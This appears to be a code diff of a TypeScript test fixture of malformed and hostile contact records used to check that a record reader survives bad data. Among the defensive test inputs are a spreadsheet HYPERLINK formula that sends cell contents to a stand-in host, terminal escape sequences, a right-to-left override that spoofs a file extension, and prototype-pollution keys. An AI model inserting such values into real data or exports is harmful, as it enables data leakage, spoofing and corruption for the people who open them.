@@ -4,14 +4,16 @@ export type Part = 'name' | 'email' | 'phone' | 'tags' | 'lastMessage';
 type AnyRecord = any;
 
 export interface HostileRecord {
-  /** A name typed by someone who means no good, or at least no name. */
+  /** What was typed as the name, with bad intent or by mistake. */
   readonly name?: string;
-  /** What the record does not hold, so that no filter finds it by that. */
+  /** What the record does not hold: no filter or search finds it by that. */
   readonly lacks?: readonly Part[];
   readonly corrupt?: (record: AnyRecord) => void;
 }
 
-const details: readonly Part[] = ['name', 'email', 'phone', 'tags'];
+const contact: readonly Part[] = ['email', 'phone'];
+const details: readonly Part[] = ['name', ...contact, 'tags'];
+const noContact = { contact: null, whatsAppNumber: undefined };
 const attributes = [
   { key: '__proto__', value: 'polluted' },
   { key: 'constructor', value: { nested: ['=1+1', null] } },
@@ -19,20 +21,14 @@ const attributes = [
   null,
 ];
 
-/** What strangers, imports and old versions leave behind: a reader has to survive each. */
+/** What strangers, imports and old versions leave behind; a reader has to survive each. */
 export const hostileRecords: readonly HostileRecord[] = [
   { name: '\u001b[31mRed Alert\u001b[0m' },
-  { lacks: ['email'], corrupt: ({ profile }) => delete profile.userDetails.contact?.email },
+  { lacks: contact, corrupt: ({ profile }) => Object.assign(profile.userDetails, { contact: {} }) },
   { name: '=HYPERLINK("https://example.com/?leak="&A1,"Open me")' },
   { lacks: details, corrupt: ({ profile }) => delete profile.userDetails },
   { name: '\u202Egnp.eciovni' },
-  {
-    lacks: ['email', 'phone'],
-    corrupt({ profile }) {
-      profile.userDetails.contact = null;
-      delete profile.userDetails.whatsAppNumber;
-    },
-  },
+  { lacks: contact, corrupt: ({ profile }) => Object.assign(profile.userDetails, noContact) },
   { name: '\nLeading newline' },
   { lacks: ['lastMessage'], corrupt: (raw) => delete raw.lastMessage },
   { name: '\u001b]0;owned\u0007 👩‍👩‍👧‍👦 Familie' },
